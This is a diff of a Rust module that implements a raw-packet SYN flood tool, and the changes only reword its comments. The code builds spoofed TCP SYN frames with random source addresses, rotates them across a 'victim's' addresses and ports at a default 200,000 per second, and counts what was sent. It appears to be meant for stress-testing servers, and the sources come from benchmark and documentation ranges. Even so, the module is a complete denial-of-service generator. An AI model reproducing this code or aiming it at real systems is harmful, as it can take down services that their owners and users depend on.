@@ -1,4 +1,4 @@
-//! SYNs from random sources, at a steady rate: what a server must live through.
+//! SYN flood: sends SYNs from random sources at a steady rate.
 
 use std::net::IpAddr;
 use std::time::{Duration, Instant};
@@ -9,12 +9,12 @@ use serde_json::{Value, json};
 use crate::packet::{BATCH, Port};
 use crate::random::Random;
 
-/// How often it looks how many frames are due.
+/// Interval between two bursts.
 const TICK: Duration = Duration::from_micros(200);
 
 /// Options of a usual SYN: MSS 1460, SACK permitted, timestamps, window scale 7.
 const TCP_OPTIONS: [u8; 20] = [2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7];
-/// Bytes of the SYN: the header without options has 20.
+/// Bytes of the TCP header of the SYN: 20 without options.
 const SYN_LEN: u8 = 40;
 const TCP_LEN: usize = SYN_LEN as usize;
 const _: () = assert!(TCP_LEN == 20 + TCP_OPTIONS.len());
@@ -22,18 +22,18 @@ const ETHERNET_LEN: usize = 14;
 
 #[derive(clap::Args)]
 pub(crate) struct Options {
-    /// The interface that the victim is behind
+    /// Interface that leads to the victim
     interface: String,
-    /// The victim's link address
+    /// Link address of the victim
     #[arg(long)]
     mac: Mac,
-    /// The victim's addresses: they take turns
+    /// Addresses of the victim, used in rotation
     #[arg(long = "to", required = true)]
     hosts: Vec<IpAddr>,
-    /// The ports that are flooded: they take turns
+    /// Ports to flood, used in rotation
     #[arg(long, value_delimiter = ',', default_value = "7")]
     ports: Vec<u16>,
-    /// SYNs in a second
+    /// SYNs per second
     #[arg(long, default_value_t = 200_000)]
     rate: u32,
     #[arg(long, default_value_t = 10.0)]
@@ -42,7 +42,7 @@ pub(crate) struct Options {
     seed: u64,
 }
 
-/// A link address.
+/// An Ethernet address.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 struct Mac([u8; 6]);
 
@@ -56,7 +56,7 @@ impl std::str::FromStr for Mac {
     }
 }
 
-/// How many SYNs were sent, and how many the interface did not take.
+/// Number of SYNs sent, and of those that the interface did not accept.
 pub(crate) fn run(options: &Options) -> Result<Value> {
     let port = Port::open(&options.interface).with_context(|| format!("interface {}", options.interface))?;
     ensure!(options.rate > 0 && options.seconds > 0.0, "a rate and a time above zero are wanted");
@@ -69,7 +69,7 @@ pub(crate) fn run(options: &Options) -> Result<Value> {
     loop {
         let elapsed = begin.elapsed();
         let due = (elapsed.min(length).as_secs_f64() * f64::from(options.rate)).round();
-        // Those that are late when the time is over are not sent: the rate counts, not the number.
+        // SYNs overdue at the end are not sent: the rate counts, not the number.
         while (made as f64) < due && begin.elapsed() <= length {
             frames.clear();
             for (host, port) in targets.by_ref().take(BATCH) {
@@ -88,8 +88,8 @@ pub(crate) fn run(options: &Options) -> Result<Value> {
     Ok(json!({ "sent": sent, "refused": made - sent, "seconds": seconds, "per_second": per_second }))
 }
 
-/// A SYN from a random source: 198.18.0.0/15 (RFC 2544: for benchmarks) or 2001:db8::/32 (RFC 3849: for
-/// documentation), which lie behind the victim's gateway and answer nothing.
+/// Builds a SYN from a random source in 198.18.0.0/15 (RFC 2544: for benchmarks) or 2001:db8::/32 (RFC 3849: for
+/// documentation). These networks are behind the victim's gateway and do not answer.
 fn syn(victim: Mac, host: IpAddr, port: u16, random: &mut Random) -> Vec<u8> {
     let (mut frame, addresses_at) = match host {
         IpAddr::V4(host) => {
@@ -112,7 +112,7 @@ fn syn(victim: Mac, host: IpAddr, port: u16, random: &mut Random) -> Vec<u8> {
         }
     };
     put(&mut frame, 0, &victim.0);
-    // A station of nobody's: locally administered.
+    // A locally administered address that no station uses.
     put(&mut frame, 6, &[2, 0xf1, 0x00, 0xd0, 0, 1]);
     let segment_at = frame.len() - TCP_LEN;
     let [high, low, ..] = random.next().to_be_bytes();
@@ -122,21 +122,21 @@ fn syn(victim: Mac, host: IpAddr, port: u16, random: &mut Random) -> Vec<u8> {
     put(&mut frame, segment_at + 4, &[a, b, c, d]);
     put(&mut frame, segment_at + 12, &[(SYN_LEN / 4) << 4, 0x02, 0xfa, 0xf0]);
     put(&mut frame, segment_at + 20, &TCP_OPTIONS);
-    // The pseudo-header: both addresses, which lie before the segment, the protocol and the length.
+    // The pseudo-header: both addresses (before the segment), the protocol and the length.
     let pseudo_header = 6 + u32::from(SYN_LEN);
     let checksum = checksum(pseudo_header, frame.get(addresses_at..).unwrap_or_default());
     put(&mut frame, segment_at + 16, &checksum.to_be_bytes());
     frame
 }
 
-/// Writes bytes that lie within the frame.
+/// Writes bytes into the frame.
 fn put(frame: &mut [u8], at: usize, bytes: &[u8]) {
     if let Some(room) = frame.get_mut(at..).and_then(|rest| rest.get_mut(..bytes.len())) {
         room.copy_from_slice(bytes);
     }
 }
 
-/// RFC 1071, of an even number of bytes.
+/// Returns the checksum of RFC 1071 over an even number of bytes.
 fn checksum(start: u32, bytes: &[u8]) -> u16 {
     let (words, _) = bytes.as_chunks();
     let mut sum = words.iter().fold(start, |sum, word| sum + u32::from(u16::from_be_bytes(*word)));
@@ -172,7 +172,7 @@ mod tests {
             let at = first.len() - TCP_LEN - addresses;
             assert_ne!(first[at..at + addresses / 2], second[at..at + addresses / 2]);
             assert_eq!(first[at + addresses / 2..at + addresses], second[at + addresses / 2..at + addresses]);
-            // RFC 1071: what holds its own checksum sums up to nothing.
+            // RFC 1071: the sum over data with a valid checksum is zero.
             assert_eq!(checksum(6 + u32::from(SYN_LEN), &first[at..]), 0);
             if host.is_ipv4() {
                 assert_eq!(checksum(0, &first[ETHERNET_LEN..ETHERNET_LEN + 20]), 0);
